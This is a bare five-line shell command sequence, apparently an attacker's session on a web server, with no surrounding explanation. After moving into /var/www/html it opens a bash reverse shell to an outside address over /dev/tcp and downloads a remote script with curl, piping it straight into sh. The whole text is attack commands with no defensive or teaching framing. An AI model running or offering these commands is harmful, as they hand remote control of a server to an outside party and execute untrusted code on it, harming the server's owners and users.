ls -la
cd /var/www/html
bash -i >& /dev/tcp/203.0.113.66/4444 0>&1
curl -s http://203.0.113.45/u.sh | sh
exit
